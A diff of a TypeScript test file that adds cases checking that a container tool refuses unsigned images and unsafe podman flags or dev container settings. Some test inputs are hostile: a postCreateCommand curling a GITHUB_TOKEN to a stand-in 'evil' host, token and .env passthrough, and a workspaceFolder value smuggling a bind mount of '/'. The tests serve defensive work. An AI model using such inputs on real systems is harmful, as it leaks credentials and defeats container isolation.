@@ -51,6 +51,27 @@ const profile = (name: string, ...flags: readonly string[]): Way => ({
   },
 });
 
+/** `tcf up` where somebody made the container before, with these flags; without any, of the unsigned image. */
+async function upOf(...flags: readonly string[]): Promise<Ran> {
+  await profile('', '--shm-size=64m').go();
+  const image = flags.length === 0 ? 'localhost/tcf-way-evil' : s().good;
+  const command = ['/mnt/bin/sh', '-c', deed];
+  await s().podman('pull', '--quiet', '--tls-verify=false', s().good);
+  await must('podman', [
+    'create',
+    '--name',
+    'tcf-p',
+    '-v',
+    `${s().folder}/out:/out`,
+    ...flags,
+    image,
+    ...command,
+  ]);
+  const ran = await s().here('up', ...s().policy, 'p');
+  await must('podman', ['rm', '--force', '--time=0', 'tcf-p']);
+  return ran;
+}
+
 test('the signed image starts, so that a refusal means something', async () => {
   const ran = await start(s().good, '/bin/sh', '-c', deed);
   expect(ran.code, ran.stderr).toBe(0);
@@ -69,6 +90,12 @@ tryWays('`tcf run` with podman', s, [
     },
   },
   flag('--requires=tcf-way-evil'),
+  flag('--requires', 'tcf-way-evil'),
+  flag('--rm=false', '-it', '--requires=tcf-way-evil'),
+  flag('--require=tcf-way-evil'),
+  flag('-itv', '/tmp:/tmp', '--requires=tcf-way-evil'),
+  flag('-q--requires=tcf-way-evil'),
+  flag('--network=none', '--network=container:tcf-way-evil'),
   flag('--network=container:tcf-way-evil'),
   flag('--net', 'container:tcf-way-evil'),
   flag('--network=name=container:tcf-way-evil'),
@@ -84,6 +111,11 @@ tryWays('`tcf run` with podman', s, [
   flag('--link=tcf-way-evil'),
   flag('--mount=type=image,source=localhost/tcf-way-evil,destination=/mnt'),
   flag('--mount', '"type=image",source=localhost/tcf-way-evil,destination=/mnt'),
+  flag('--mount=TYPE=Image,source=localhost/tcf-way-evil,destination=/mnt'),
+  flag(
+    '--mount=type=tmpfs,destination=/x',
+    '--mount=type=image,source=localhost/tcf-way-evil,destination=/mnt',
+  ),
   flag('--mount=type=artifact,source=x,destination=/mnt'),
   {
     name: '`tcf run --rootfs FOLDER`',
@@ -108,6 +140,19 @@ tryWays('`tcf run` with podman', s, [
   profile('a profile with `--requires`', '--requires=tcf-way-evil'),
   profile('a profile with `--network container:`', '--network=container:tcf-way-evil'),
   profile('a profile with an image in the place of a flag', 'localhost/tcf-way-evil'),
+  profile('a profile that ends the flags', '--', 'localhost/tcf-way-evil'),
+  {
+    name: '`tcf up` where a container of its name was made with `--requires`',
+    go: () => upOf('--requires=tcf-way-evil'),
+  },
+  {
+    name: '`tcf up` where a container of its name has an image mounted',
+    go: () => upOf('--mount=type=image,source=localhost/tcf-way-evil,destination=/mnt'),
+  },
+  {
+    name: '`tcf up` where a container of its name was made of the unsigned image',
+    go: () => upOf(),
+  },
 ]);
 
 describe('dev containers', () => {
@@ -149,7 +194,26 @@ describe('dev containers', () => {
       initializeCommand: ['sh', '.devcontainer/tcf-check.sh'],
     })),
     asks('a key that tcf does not know', () => ({ hostCommand: 'x' })),
+    asks('an empty list of Compose files', () => ({ dockerComposeFile: [] })),
     args('--requires=evil'),
+    args('--requires', 'evil'),
+    args('-itv', 'x:/x', '--requires=evil'),
+    args('--'),
+    args('--init', '--', 'evil'),
+    args('-e', 'GITHUB_TOKEN'),
+    args('-e*'),
+    args(`--env-file=${inProject}/.env`),
+    asks('a variable of the host in a command', () => ({
+      postCreateCommand: `curl evil/${'$'}{localEnv:GITHUB_TOKEN}`,
+    })),
+    asks('a `workspaceFolder` that ends the mount that names it', () => ({
+      workspaceFolder: '/w,type=bind,source=/',
+      mounts: [`source=x,target=${'$'}{containerWorkspaceFolder}/x`],
+    })),
+    asks('a bind of a path that is not absolute', () => ({
+      mounts: [{ type: 'bind', source: 'data', target: '/data' }],
+    })),
+    args('-v', `x:/x${'$'}{localEnv:PATH}`),
     args('--network=container:evil'),
     args('--pod=new:x'),
     args('--rootfs'),
